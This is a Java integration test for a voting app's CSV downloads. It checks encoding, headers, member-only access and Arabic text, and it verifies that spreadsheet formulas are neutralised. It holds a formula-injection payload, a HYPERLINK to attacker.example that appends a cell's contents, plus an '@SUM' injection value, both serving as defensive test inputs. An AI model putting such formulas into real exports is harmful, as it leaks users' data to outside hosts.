package org.commune.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.commune.governance.BallotInput;
import org.commune.governance.NewProposal;
import org.commune.governance.ProposalId;
import org.commune.governance.Proposals;
import org.commune.members.MemberId;
import org.commune.members.Role;
import org.commune.testing.RunningCommune;
import org.commune.testing.WebSession;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Every CSV download, through real HTTP, opens in a spreadsheet program with its Arabic intact: UTF-8
 * with a byte order mark (or without, when asked), the right type and file name, and a member's option
 * written as a formula shown as text rather than run.
 */
class CsvDownloadsIT extends RunningCommune {

  static final String FORMULA = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
  static final String ARABIC = "الخبز والحرية";

  @Autowired Proposals proposals;

  @Test
  void downloadsOpenInSpreadsheetsWithArabicAndNoFormulas() {
    MemberId a = member("csv-a", Role.MEMBER);
    MemberId b = member("csv-b", Role.MEMBER);
    ProposalId id = proposals.create(a, new NewProposal("تصويت الشعار", "", "approval",
        List.of(FORMULA, ARABIC, "@SUM(1+1)"), 3, 0));
    proposals.cast(a, id, new BallotInput("", Set.of(0, 1), Map.of()));
    proposals.cast(b, id, new BallotInput("", Set.of(1, 2), Map.of()));
    WebSession member = signedIn("csv-a");
    String base = "/proposals/" + id;
    assertThat(member.download(base + "/ballots.csv").status()).as("hidden until the vote closes").isEqualTo(409);
    proposals.close(id);

    for (String file : List.of("ballots", "result", "weights")) {
      WebSession.Download csv = member.download(base + "/" + file + ".csv");
      assertThat(csv.status()).isEqualTo(200);
      assertThat(csv.header("Content-Type").replace(" ", "")).isEqualToIgnoringCase("text/csv;charset=UTF-8");
      assertThat(csv.header("Content-Disposition")).isEqualTo("attachment; filename=\"" + file + "-" + id
          + ".csv\"; filename*=UTF-8''" + file + "-" + id + ".csv");
      assertThat(Arrays.copyOf(csv.body(), 3)).as(file).containsExactly(0xEF, 0xBB, 0xBF);

      WebSession.Download plain = member.download(base + "/" + file + ".csv?bom=0");
      assertThat(plain.body()).as("without the mark, the same bytes")
          .isEqualTo(Arrays.copyOfRange(csv.body(), 3, csv.body().length));
    }

    String ballots = text(member.download(base + "/ballots.csv"));
    String header = ballots.lines().findFirst().orElseThrow();
    // The Arabic option comes back as it was written; the formulas come back as text.
    assertThat(header).isEqualTo("weight,\"'" + FORMULA.replace("\"", "\"\"") + "\"," + ARABIC + ",'@SUM(1+1)");
    assertThat(ballots).contains("\r\n1,1,1,0\r\n").contains("\r\n1,0,1,1\r\n");
    String result = text(member.download(base + "/result.csv"));
    assertThat(result).contains(ARABIC + ",2,yes").contains("'@SUM(1+1),1,no");
    assertThat(result.lines().filter(line -> line.startsWith("=") || line.startsWith("\"=") || line.startsWith("@")))
        .as("no cell starts a formula").isEmpty();

    assertThat(visitor().download(base + "/result.csv").status()).as("members only").isIn(302, 401, 403);
  }

  /** The text after the byte order mark, which must be there. */
  private static String text(WebSession.Download csv) {
    byte[] body = csv.body();
    assertThat(Arrays.copyOf(body, 3)).containsExactly(0xEF, 0xBB, 0xBF);
    return new String(body, 3, body.length - 3, StandardCharsets.UTF_8);
  }
}
